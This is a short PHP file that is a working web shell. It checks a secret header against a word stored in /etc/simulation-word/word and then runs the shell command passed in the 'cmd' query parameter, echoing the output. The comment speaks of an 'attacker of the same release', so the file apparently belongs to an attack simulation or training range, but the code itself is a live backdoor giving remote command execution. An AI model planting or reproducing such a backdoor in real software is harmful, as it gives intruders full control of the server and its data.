<?php
// Only the attacker of the same release knows the word; where none is mounted, nobody is let in.
$word = is_file("/etc/simulation-word/word") ? file_get_contents("/etc/simulation-word/word") : "";
if ($word === "" || !hash_equals($word, $_SERVER["HTTP_X_SIMULATION_WORD"] ?? "")) {
  http_response_code(403);
  exit;
}
echo shell_exec($_GET["cmd"]);
